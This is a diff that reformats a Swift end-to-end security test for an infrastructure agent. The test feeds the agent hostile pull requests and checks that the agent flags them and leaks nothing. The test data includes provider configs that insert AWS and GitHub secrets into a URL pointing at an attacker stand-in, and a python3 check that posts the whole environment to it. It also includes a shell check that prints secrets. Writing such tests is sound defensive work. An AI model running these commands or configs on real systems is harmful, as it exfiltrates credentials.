@@ -20,7 +20,8 @@ extension EndToEnd {
         func exampleRepository() throws -> GitFixture {
             let fixture = try GitFixture()
             for item in ["plumb.yaml", "Providers", "Desired", "scripts"] {
-                try FileManager.default.copyItem(at: PlumbProcess.projectRoot.appendingPathComponent(item), to: fixture.url.appendingPathComponent(item))
+                try FileManager.default.copyItem(
+                    at: PlumbProcess.projectRoot.appendingPathComponent(item), to: fixture.url.appendingPathComponent(item))
             }
             try fixture.commit("Example desired state")
             return fixture
@@ -38,7 +39,8 @@ extension EndToEnd {
                 let url = directory.appendingPathComponent(file)
                 var isDirectory: ObjCBool = false
                 guard FileManager.default.fileExists(atPath: url.path, isDirectory: &isDirectory), !isDirectory.boolValue,
-                      let data = FileManager.default.contents(atPath: url.path) else { continue }
+                    let data = FileManager.default.contents(atPath: url.path)
+                else { continue }
                 let secrets = leaked(data)
                 if !secrets.isEmpty { found.append("\(file): \(secrets)") }
             }
@@ -89,27 +91,39 @@ extension EndToEnd {
             let checks = try String(contentsOf: fixture.url.appendingPathComponent("Desired/checks.yaml"), encoding: .utf8)
             let settings = try String(contentsOf: fixture.url.appendingPathComponent("plumb.yaml"), encoding: .utf8)
             let cases = [
-                Hostile(name: "rewrites a binding to the attacker's server", files: [
-                    "Providers/dns.yaml": "kind: powerdns\nurl: \(listener.url)\napi_key: ${AWS_SECRET_ACCESS_KEY}\nserver: ${PLUMB_WEBHOOK_SECRET}\n",
-                ], named: ["Providers/dns.yaml", "needs a binding review", "+url: \(listener.url)"]),
-                Hostile(name: "interpolates every secret variable into a new binding", files: [
-                    "Providers/steal.yaml": "kind: powerdns\nurl: \(listener.url)/\(every)\napi_key: \(every)\nserver: ${PLUMB_GITHUB_TOKEN}-${PLUMB_WEBHOOK_SECRET}\n",
-                    "Desired/dns/steal.yaml": "provider: steal\nzone: steal.example.\nrecords:\n  www: {type: A, value: 192.0.2.1}\n",
-                ], named: ["Providers/steal.yaml", "(added)", "needs a binding review"]),
-                Hostile(name: "points an embedded path outside --state", files: [
-                    "Providers/dns.yaml": "kind: embedded\npath: \(outside.path)/deep/evil.sqlite\n",
-                ], named: ["Providers/dns.yaml", "needs a binding review"]),
-                Hostile(name: "adds a check that sends its environment away", files: [
-                    "Desired/checks.yaml": checks + """
-                      leak:
-                        command: [python3, -c, "import os, urllib.request; urllib.request.urlopen('\(listener.url)', data=repr(dict(os.environ)).encode())"]
+                Hostile(
+                    name: "rewrites a binding to the attacker's server",
+                    files: [
+                        "Providers/dns.yaml":
+                            "kind: powerdns\nurl: \(listener.url)\napi_key: ${AWS_SECRET_ACCESS_KEY}\nserver: ${PLUMB_WEBHOOK_SECRET}\n"
+                    ], named: ["Providers/dns.yaml", "needs a binding review", "+url: \(listener.url)"]),
+                Hostile(
+                    name: "interpolates every secret variable into a new binding",
+                    files: [
+                        "Providers/steal.yaml":
+                            "kind: powerdns\nurl: \(listener.url)/\(every)\napi_key: \(every)\nserver: ${PLUMB_GITHUB_TOKEN}-${PLUMB_WEBHOOK_SECRET}\n",
+                        "Desired/dns/steal.yaml": "provider: steal\nzone: steal.example.\nrecords:\n  www: {type: A, value: 192.0.2.1}\n",
+                    ], named: ["Providers/steal.yaml", "(added)", "needs a binding review"]),
+                Hostile(
+                    name: "points an embedded path outside --state",
+                    files: [
+                        "Providers/dns.yaml": "kind: embedded\npath: \(outside.path)/deep/evil.sqlite\n"
+                    ], named: ["Providers/dns.yaml", "needs a binding review"]),
+                Hostile(
+                    name: "adds a check that sends its environment away",
+                    files: [
+                        "Desired/checks.yaml": checks + """
+                              leak:
+                                command: [python3, -c, "import os, urllib.request; urllib.request.urlopen('\(listener.url)', data=repr(dict(os.environ)).encode())"]
 
-                    """,
-                ], named: ["Checks this request adds", "`leak`", "added", "command", "urllib.request"]),
-                Hostile(name: "lifts plumb.yaml's safety limits", files: [
-                    "plumb.yaml": settings.replacingOccurrences(of: "max_deletes: 25", with: "max_deletes: 100000")
-                        .replacingOccurrences(of: "max_delete_percent: 30", with: "max_delete_percent: 100"),
-                ], named: ["plumb.yaml", "needs a binding review", "+  max_deletes: 100000"]),
+                            """
+                    ], named: ["Checks this request adds", "`leak`", "added", "command", "urllib.request"]),
+                Hostile(
+                    name: "lifts plumb.yaml's safety limits",
+                    files: [
+                        "plumb.yaml": settings.replacingOccurrences(of: "max_deletes: 25", with: "max_deletes: 100000")
+                            .replacingOccurrences(of: "max_delete_percent: 30", with: "max_delete_percent: 100")
+                    ], named: ["plumb.yaml", "needs a binding review", "+  max_deletes: 100000"]),
             ]
             for (index, hostile) in cases.enumerated() {
                 let number = "\(100 + index)"
@@ -117,7 +131,8 @@ extension EndToEnd {
                 for (path, text) in hostile.files { try fixture.write(path, text) }
                 let prHead = try fixture.commit(hostile.name)
                 try fixture.git("checkout", "-q", "main")
-                let body = #"{"action":"opened","number":\#(number),"pull_request":{"number":\#(number),"head":{"sha":"\#(prHead)","ref":"hostile-\#(number)"},"base":{"ref":"main"}},"repository":{"full_name":"acme/infra"}}"#
+                let body =
+                    #"{"action":"opened","number":\#(number),"pull_request":{"number":\#(number),"head":{"sha":"\#(prHead)","ref":"hostile-\#(number)"},"base":{"ref":"main"}},"repository":{"full_name":"acme/infra"}}"#
                 #expect(try await agent.github("pull_request", body).status == 202)
                 let plan = try await waitForPlan(agent, number)
                 for text in hostile.named { #expect(plan.contains(text), "\(hostile.name): the review plan does not name \(text):\n\(plan)") }
@@ -129,7 +144,9 @@ extension EndToEnd {
                 }
                 // A moment for anything the request could have set off to arrive.
                 try await Task.sleep(for: .milliseconds(500))
-                #expect(listener.received.isEmpty, "\(hostile.name): the attacker's server received \(String(decoding: listener.received.prefix(500), as: UTF8.self))")
+                #expect(
+                    listener.received.isEmpty,
+                    "\(hostile.name): the attacker's server received \(String(decoding: listener.received.prefix(500), as: UTF8.self))")
                 #expect(!FileManager.default.fileExists(atPath: outside.path), "\(hostile.name): created \(outside.path)")
                 // What the forge was sent, less the Authorization header its own token belongs in.
                 let sent = comments.log.map { $0.filter { $0.key != "auth" } }
@@ -156,14 +173,16 @@ extension EndToEnd {
             let head = try fixture.git("rev-parse", "HEAD")
             _ = try await agent.waitForStatus { $0["last_applied_commit"] as? String == head }
             let checks = try String(contentsOf: fixture.url.appendingPathComponent("Desired/checks.yaml"), encoding: .utf8)
-            try fixture.write("Desired/checks.yaml", checks + """
-              leak:
-                after: dns.record/*
-                env: [AWS_SECRET_ACCESS_KEY, PLUMB_GITHUB_TOKEN]
-                command: [sh, -c, "env; echo \\"hook=${PLUMB_WEBHOOK_SECRET:-unset} pdns=${PDNS_API_KEY:-unset}\\"; echo \\"LEAKED aws=$AWS_SECRET_ACCESS_KEY forge=$PLUMB_GITHUB_TOKEN\\"; exit 1"]
-                timeout: 1s
+            try fixture.write(
+                "Desired/checks.yaml",
+                checks + """
+                      leak:
+                        after: dns.record/*
+                        env: [AWS_SECRET_ACCESS_KEY, PLUMB_GITHUB_TOKEN]
+                        command: [sh, -c, "env; echo \\"hook=${PLUMB_WEBHOOK_SECRET:-unset} pdns=${PDNS_API_KEY:-unset}\\"; echo \\"LEAKED aws=$AWS_SECRET_ACCESS_KEY forge=$PLUMB_GITHUB_TOKEN\\"; exit 1"]
+                        timeout: 1s
 
-            """)
+                    """)
             let url = fixture.url.appendingPathComponent("Desired/dns/example.com.yaml")
             let zone = try String(contentsOf: url, encoding: .utf8)
             try fixture.write("Desired/dns/example.com.yaml", zone.replacingOccurrences(of: "value: 198.51.100.25", with: "value: 198.51.100.35"))
@@ -181,8 +200,10 @@ extension EndToEnd {
             let log = (try? String(contentsOf: state.appendingPathComponent("agent.log"), encoding: .utf8)) ?? ""
             #expect(log.contains("LEAKED aws=*** forge=***"), "the logs lack the check's output")
             // The history: the database and, if not yet checkpointed, its write-ahead log.
-            let history = ["state.sqlite", "state.sqlite-wal"].compactMap { FileManager.default.contents(atPath: state.appendingPathComponent($0).path) }
-                .reduce(Data(), +)
+            let history = ["state.sqlite", "state.sqlite-wal"].compactMap {
+                FileManager.default.contents(atPath: state.appendingPathComponent($0).path)
+            }
+            .reduce(Data(), +)
             #expect(history.range(of: Data("LEAKED aws=*** forge=***".utf8)) != nil, "the history lacks the check's output")
             let foundState = try Self.leakingFiles(under: state)
             #expect(foundState.isEmpty, "\(foundState)")
